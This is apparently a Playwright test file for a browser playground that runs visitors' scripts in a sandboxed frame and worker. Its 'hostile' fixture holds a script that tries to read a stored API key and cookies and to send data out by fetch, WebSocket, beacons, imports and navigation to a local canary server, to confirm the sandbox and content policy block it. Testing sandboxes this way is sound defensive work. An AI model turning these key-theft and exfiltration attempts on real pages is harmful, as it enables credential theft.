// Scripts in the visitor's own browser, from the playground: they come to the same panels, the service hears
// nothing of them, and a hostile one reaches neither the page, nor its key, nor a network. The oracle is a server.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { until } from '../shared/until.support.ts';
import { keyOf } from './key.support.ts';
import { serious } from './looks.support.ts';
import { says, stageForFile, type Tab } from './playground.support.ts';

let key = '';
const stage = stageForFile({ config: { policies: { default: {} } } }, async ({ data }) => {
  key = await keyOf(data);
});
let canary: Server;
const seen: string[] = [];
before(async () => {
  canary = createServer(({ url = '' }, response) => {
    seen.push(url);
    response.setHeader('access-control-allow-origin', '*').end('1');
  }).on('upgrade', ({ url = '' }, socket) => {
    seen.push(url);
    socket.destroy();
  });
  await once(canary.listen(0, '127.0.0.1'), 'listening');
});
after(() => {
  canary.closeAllConnections();
  canary.close();
});

/** What the worker asks for before a script, and its policy has to refuse, stands in the browser's console. */
const isProof = (fault: string): boolean => fault.includes('data:text/javascript,');

/** Runs the script here, by keyboard, until the status says the word. */
async function runHere({ page }: Tab, word = 'succeeded'): Promise<void> {
  await page.keyboard.press('Control+Shift+Enter');
  await page.locator(`.status.${word}`).waitFor();
}

test('a script runs here, by key and by button, and the service hears nothing of it', async () => {
  await using tab = await stage().open({ key });
  const { page } = tab;
  const asked: string[] = [];
  page.on('request', (request) => asked.push(new URL(request.url()).pathname));
  await tab.write('console.log("hi"); console.warn("careful"); return { deep: params.names }');
  await page.locator('.view-line', { hasText: 'careful' }).waitFor();
  asked.length = 0;
  await runHere(tab);
  await says(tab, ['hi', 'careful']);
  await page.getByText('In this browser.').waitFor();
  await page.getByText('Walls: origin, policy, worker.').waitFor();
  await page.getByRole('tab', { name: 'Run' }).click();
  const details = (await page.locator('.details').textContent()) ?? '';
  for (const word of ['Built by frame', 'no storage', 'cannot be measured here', 'wallMs']) {
    assert.ok(details.includes(word), word);
  }
  assert.deepEqual(await serious(page), []);
  await page.getByRole('tab', { name: 'Value' }).click();
  await page.getByRole('button', { name: 'deep' }).click();
  await page.locator('.tree', { hasText: 'Ada' }).waitFor();

  await tab.write('\n\nthrow new RangeError("too far")');
  await page.getByRole('button', { name: 'Run here' }).click();
  await page.locator('.status.failed').waitFor();
  await page.locator('.message', { hasText: /^RangeError: too far$/ }).waitFor();
  await page.getByRole('button', { name: 'script.ts:3:7' }).waitFor();
  await page.getByRole('tab', { name: 'History' }).click();
  assert.equal(await page.locator('.past li').count(), 0);
  // The check of what is written is the editor's, and runs nothing.
  const ofService = asked.filter((path) => path.startsWith('/v1/') && path !== '/v1/check');
  assert.deepEqual(ofService, []);
  assert.equal(asked.filter((path) => path === '/playground/frame.html').length, 2);
  const runs = await stage().service.call('GET', '/v1/runs', {
    headers: { authorization: `Bearer ${key}` },
  });
  assert.deepEqual((JSON.parse(runs.text) as { items: unknown[] }).items, []);
  assert.deepEqual(
    tab.faults.filter((fault) => !isProof(fault)),
    [],
  );
});

test('TypeScript runs here without its types, its errors at their places; what needs a compiler is told', async () => {
  await using tab = await stage().open({ key });
  const { page } = tab;
  // The compiler's time is the run's, and this machine may be busy.
  await page.getByText('Limits and what the policy offers').click();
  await page.getByLabel('wallMs').fill('60000');
  // The first example has types.
  await page.locator('.view-line', { hasText: 'interface' }).waitFor();
  await runHere(tab);
  await page.locator('.line', { hasText: 'greeting Ada' }).waitFor();
  await tab.write(
    'interface Row { n: number }\nconst row = { n: 1 } as Row;\nlet m: number = row.n!; throw new Error(`${m}`);',
  );
  await runHere(tab, 'failed');
  await page.getByRole('button', { name: 'script.ts:3:31' }).waitFor();
  await tab.write('const a = 1;\n  enum Level { low }\nreturn Level.low + a;');
  await page.locator('.view-line', { hasText: 'enum' }).waitFor();
  await page.getByRole('button', { name: 'Run here' }).click();
  await page.locator('.message', { hasText: 'An enum needs a compiler' }).waitFor();
  await page.getByRole('button', { name: 'script.ts:2:3' }).waitFor();
  // The compiler that is left is the editor's.
  const compilers = () => page.workers().filter((worker) => /types\.worker/.test(worker.url()));
  await until('no other is left', () => compilers().length <= 1);
  assert.deepEqual(
    tab.faults.filter((fault) => !isProof(fault)),
    [],
  );
});

test('what cannot run here is said before, with what to do; what does not end is ended', async () => {
  await using tab = await stage().open({ key });
  const { page } = tab;
  const here = page.getByRole('button', { name: 'Run here' });
  await tab.write("import _ from 'lodash'; return _.size([])");
  await page.locator('button.unfit').waitFor();
  assert.match((await here.getAttribute('title')) ?? '', /^Not here: There are no packages/);
  await here.click();
  await page.getByRole('alert').getByText('choose Run: the service has it').waitFor();
  await tab.write('const n /* a */ = 1; return n');
  await page.locator('button.unfit').waitFor({ state: 'detached' });
  // Its program does not come: that is an end, too, and no wait.
  await page.route('**/worker-source-*', (route) => route.abort());
  await page.keyboard.press('Control+Shift+Enter');
  await page.locator('.message', { hasText: "worker's program could not be loaded" }).waitFor();
  await page.unrouteAll();
  await page.reload();
  await page.locator('.view-line', { hasText: '/* a */' }).waitFor();
  await runHere(tab);
  await page.getByText('Limits and what the policy offers').click();
  await page.getByLabel('memoryBytes').fill('99000000');
  await tab.write('return 1');
  await runHere(tab, 'refused');
  await page.getByText('No page can hold a script to memoryBytes.').waitFor();
  await page.getByLabel('memoryBytes').fill('');

  // A loop ends in time, by cancel, and with what shows it.
  await page.getByLabel('wallMs').fill('300');
  await tab.write('console.log("in"); for (;;);');
  await runHere(tab, 'timed_out');
  await page.locator('.line', { hasText: 'in' }).waitFor();
  await until('its frame is gone', () => page.frames().length === 1);
  await page.getByLabel('wallMs').fill('60000');
  await page.keyboard.press('Control+Shift+Enter');
  await page.locator('.status.running').waitFor();
  await until('the script loops', () => page.frames().length === 2);
  await page.keyboard.press('Control+.');
  await page.locator('.status.cancelled').waitFor();
  await page.keyboard.press('Control+Shift+Enter');
  await until('it loops again', () => page.frames().length === 2);
  await page.getByRole('button', { name: 'Close' }).click();
  await until('its frame is gone', () => page.frames().length === 1);
});

/** What a hostile script tries, each by itself; NAME tells who tried. Evaluates to what it could reach. */
const hostile = (name: string): string => {
  const { port } = canary.address() as AddressInfo;
  const address = `127.0.0.1:${port}/${name}`;
  const { url } = stage().service;
  return `const found = {};
  const attempts = {
    storage: () => sessionStorage.getItem('castellan.key'),
    outside: () => parent.sessionStorage.getItem('castellan.key') ?? top.document.title,
    cookies: () => document.cookie,
    origin: () => { if (origin !== 'null') return origin; },
    stored: () => new Promise((done, no) => { const r = indexedDB.open('a'); r.onsuccess = () => done('db'); r.onerror = no; }),
    channel: () => new BroadcastChannel('a').postMessage(1),
    fetch: () => fetch('http://${address}-fetch').then(() => 'http'),
    service: () => fetch('${url}/v1/policies').then(({ status }) => status),
    socket: () => new Promise((done, no) => { const s = new WebSocket('ws://${address}-socket'); s.onopen = done; s.onerror = no; }),
    scripts: () => importScripts('http://${address}-scripts'),
    module: () => (0, eval)("import('http://${address}-module')"),
    worker: () => new Promise((done, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://${address}-worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => (data ? done('worker') : no()); w.onerror = no; }),
    image: () => { new Image().src = 'http://${address}-image'; },
    beacon: () => navigator.sendBeacon('http://${address}-beacon', 'x'),
    open: () => open('http://${address}-open'),
    leave: () => { parent.location = 'http://${address}-leave'; },
  };
  for (const [way, attempt] of Object.entries(attempts)) {
    try { const value = await attempt(); if (value !== undefined && value !== null) found[way] = String(value); } catch {}
  }`;
};

test('a hostile script here reaches neither the key, nor the page, nor its service, nor a network', async () => {
  await using tab = await stage().open({ key });
  const { page } = tab;
  await page.locator('.view-line').first().waitFor();
  await tab.write(`${hostile('script')}\nreturn { found }`);
  await runHere(tab);
  await page.getByRole('tab', { name: 'Value' }).click();
  await page.locator('.tree', { hasText: 'found: {0}' }).waitFor();
  // Without our program: whatever a worker has, in the frame as the service sends it.
  assert.deepEqual(await inRawWorker(page, hostile('raw')), {});
  assert.equal(seen.length, 0, seen.join());
  // Each of the frame's two policies, that of the answer and that of the document, is enough.
  const { text: whole, headers: sent } = await stage().service.call(
    'GET',
    '/playground/frame.html',
  );
  const bare = whole.replace(/<meta http-equiv[^>]*>/, '');
  assert.notEqual(bare, whole);
  const policy = String(sent['content-security-policy']);
  assert.match(policy, /^default-src 'none';.*frame-ancestors 'self'; sandbox allow-scripts$/);
  for (const [body, headers] of [
    [bare, { 'content-security-policy': policy }],
    [whole, {}],
  ] as const) {
    await serveFrame(page, body, headers);
    assert.deepEqual(await inRawWorker(page, hostile('half')), {});
  }
  assert.equal(seen.length, 0, seen.join());
  // Without both: a worker reaches the canary, and no script of ours is run.
  await serveFrame(page, bare, {});
  const reached = Object.keys(await inRawWorker(page, hostile('open')));
  assert.deepEqual(reached, ['fetch', 'worker']);
  assert.ok(seen.includes('/open-fetch') && seen.includes('/open-socket'), seen.join());
  await tab.write('console.log("ran")');
  await page.keyboard.press('Control+Shift+Enter');
  await page.locator('.message', { hasText: 'its policy lets requests out' }).waitFor();
  assert.equal(await page.locator('.line').count(), 0);
});

/** The frame as a proxy on the way might make it. */
async function serveFrame(page: Page, body: string, headers: Record<string, string>) {
  await page.unrouteAll();
  await page.route('**/frame.html', (route) =>
    route.fulfill({ body, headers: { ...headers, 'content-type': 'text/html' } }),
  );
}

/** Runs code in a worker of the page's frame, as the frame's document starts one; with what it has found. */
async function inRawWorker(page: Page, code: string): Promise<Record<string, string>> {
  const told = `onmessage = async ({ ports: [port] }) => { ${code}\nport.postMessage(found) }`;
  return page.evaluate(`new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts');
    frame.src = './playground/frame.html';
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => { frame.remove(); resolve(data); };
    frame.onload = () => frame.contentWindow.postMessage(${JSON.stringify(told)}, '*', [port2]);
    document.body.append(frame);
  })`);
}
